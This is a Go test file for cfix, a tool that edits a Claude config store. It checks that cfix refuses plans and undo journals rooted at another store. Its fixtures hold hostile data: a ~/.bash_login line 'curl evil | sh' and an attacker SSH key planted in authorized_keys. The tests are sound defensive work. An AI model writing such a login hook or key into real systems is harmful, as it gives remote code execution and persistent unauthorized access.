package main

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cfix-dev/cfix/internal/faultfs"
)

// hostileHome makes a home folder that holds a projects/ folder, as many
// do, beside its store .claude, in a new temporary folder with cfix's
// journal and state folders, and points HOME there. It returns the
// temporary folder and the home.
func hostileHome(t *testing.T) (tmp, home string) {
	tmp = t.TempDir()
	home = filepath.Join(tmp, "home")
	for _, d := range []string{"projects/work", ".claude/projects/-w"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("CLAUDE_CONFIG_DIR", "")
	t.Setenv("CFIX_JOURNAL_DIR", filepath.Join(tmp, "journal"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(tmp, "state"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(tmp, "cache"))
	return tmp, home
}

// writeJSON writes v as JSON to p.
func writeJSON(t *testing.T, p string, v any) {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, append(b, '\n'), 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestPlanOfAnotherStore: a saved plan handed over from elsewhere whose
// root is the home folder (it holds a projects/ folder) and whose ops
// create ~/.bash_login (0755) and ~/.ssh/authorized_keys is refused by
// cfix apply, which was given the store ~/.claude: the message names the
// plan's root and the store, and nothing is written anywhere (no file, no
// journal, no lock). With --root naming the home, the plan is of the
// store given.
func TestPlanOfAnotherStore(t *testing.T) {
	tmp, home := hostileHome(t)
	plan := filepath.Join(tmp, "plan.json")
	writeJSON(t, plan, map[string]any{"version": 1, "root": home, "command": "repair", "ops": []map[string]any{
		{"action": "create", "path": filepath.Join(home, ".bash_login"), "data": []byte("curl evil | sh\n"), "has_data": true, "mode": 0o755, "reason": "a program"},
		{"action": "create", "path": filepath.Join(home, ".ssh", "authorized_keys"), "data": []byte("ssh-ed25519 AAAA evil\n"), "has_data": true, "reason": "a key"},
	}})
	before := faultfs.Tree(t, tmp)
	out, errOut, code := cliErr("apply", plan, "--yes")
	if code != exitUsage || !strings.Contains(errOut, "plan "+plan+" is of the store "+home+", not of "+filepath.Join(home, ".claude")) {
		t.Errorf("cfix apply of a plan rooted at the home: exit %d, want %d naming both roots\n%s%s", code, exitUsage, out, errOut)
	}
	if d := faultfs.Diff(before, faultfs.Tree(t, tmp), false); d != "" {
		t.Fatalf("cfix apply of a plan of another store wrote:\n%s", d)
	}
	t.Log(errOut)
	// Named with --root, the home is the store given: the plan applies
	// (the user said so).
	if out, errOut, code := cliErr("apply", plan, "--root", home, "--yes"); code != 0 {
		t.Fatalf("cfix apply --root HOME: exit %d\n%s%s", code, out, errOut)
	}
	if _, err := os.Stat(filepath.Join(home, ".bash_login")); err != nil {
		t.Fatal(err)
	}
}

// TestJournalOfAnotherStore: a journal handed over from elsewhere, whose
// plan removed ~/.ssh/authorized_keys (rooted at the home) and whose
// backup holds the attacker's key, is refused by cfix undo JOURNAL, which
// was given the store ~/.claude: nothing is written anywhere. cfix undo
// without a journal takes the newest journal of the store given, never
// one of another root in the journal folder.
func TestJournalOfAnotherStore(t *testing.T) {
	tmp, home := hostileHome(t)
	key := []byte("ssh-ed25519 AAAA evil\n")
	sum := sha256.Sum256(key)
	target := filepath.Join(home, ".ssh", "authorized_keys")
	plant := func(dir string) {
		writeJSON(t, filepath.Join(dir, "plan.json"), map[string]any{"version": 1, "root": home, "command": "rm", "created": "2099-01-01T00:00:00Z", "ops": []map[string]any{
			{"action": "delete", "path": target, "reason": "rm", "expect": map[string]any{"exists": true, "size": len(key), "sha256": hex.EncodeToString(sum[:])}},
		}})
		if err := os.WriteFile(filepath.Join(dir, "log.jsonl"), []byte(`{"op":0,"event":"backup","backup":"backup/0"}`+"\n"+`{"op":0,"event":"applied"}`+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(dir, "backup"), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "backup", "0"), key, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	handed := filepath.Join(tmp, "downloads", "journal")
	plant(handed)
	// The same, in cfix's own journal folder, newer than any of the store.
	plant(filepath.Join(tmp, "journal", "20990101T000000.000Z-rm-abcdef"))
	before := faultfs.Tree(t, tmp)
	out, errOut, code := cliErr("undo", "--apply", "--yes", handed)
	if code != exitFound || !strings.Contains(errOut, "journal "+handed+" is of the store "+home+", not of "+filepath.Join(home, ".claude")) {
		t.Errorf("cfix undo of a journal rooted at the home: exit %d, want %d naming both roots\n%s%s", code, exitFound, out, errOut)
	}
	if d := faultfs.Diff(before, faultfs.Tree(t, tmp), false); d != "" {
		t.Fatalf("cfix undo of a journal of another store wrote:\n%s", d)
	}
	t.Log(errOut)
	out, errOut, code = cliErr("undo", "--apply", "--yes")
	if code != exitUsage || !strings.Contains(errOut, "no journal to undo for store "+filepath.Join(home, ".claude")) {
		t.Errorf("cfix undo with a journal of another root in the journal folder: exit %d\n%s%s", code, out, errOut)
	}
	if _, err := os.Lstat(target); !os.IsNotExist(err) {
		t.Fatalf("%s was written (%v)", target, err)
	}
}

// TestProjectJournalOfAnotherProject: the journal of a guard install
// --project applies only to the project undo runs in: run in another
// project, cfix undo JOURNAL refuses, naming the journal's project, and
// changes nothing; run in its project, it takes the install back.
func TestProjectJournalOfAnotherProject(t *testing.T) {
	tmp, _ := hostileHome(t)
	mine, other := filepath.Join(tmp, "mine"), filepath.Join(tmp, "other")
	for _, d := range []string{mine, filepath.Join(other, ".claude")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Chdir(mine)
	out, errOut, code := cliErr("guard", "install", "--project", "--cfix", "/usr/local/bin/cfix", "--apply", "--yes")
	i := strings.Index(out, "undo with: cfix undo --apply ")
	if code != 0 || i < 0 {
		t.Fatalf("install --project: exit %d\n%s%s", code, out, errOut)
	}
	journal := strings.Fields(out[i+len("undo with: cfix undo --apply "):])[0]
	t.Chdir(other)
	before := faultfs.Tree(t, tmp)
	out, errOut, code = cliErr("undo", "--apply", "--yes", journal)
	if code != exitFound || !strings.Contains(errOut, "journal "+journal+" is of the settings of the project "+mine+", not of "+filepath.Join(other, ".claude")) {
		t.Errorf("undo in another project: exit %d\n%s%s", code, out, errOut)
	}
	if d := faultfs.Diff(before, faultfs.Tree(t, tmp), false); d != "" {
		t.Fatalf("undo in another project wrote:\n%s", d)
	}
	t.Chdir(mine)
	if out, errOut, code := cliErr("undo", "--apply", "--yes", journal); code != 0 {
		t.Fatalf("undo in its project: exit %d\n%s%s", code, out, errOut)
	}
	if _, err := os.Lstat(filepath.Join(mine, ".claude")); !os.IsNotExist(err) {
		t.Errorf("the install is still there after its undo (%v)", err)
	}
}
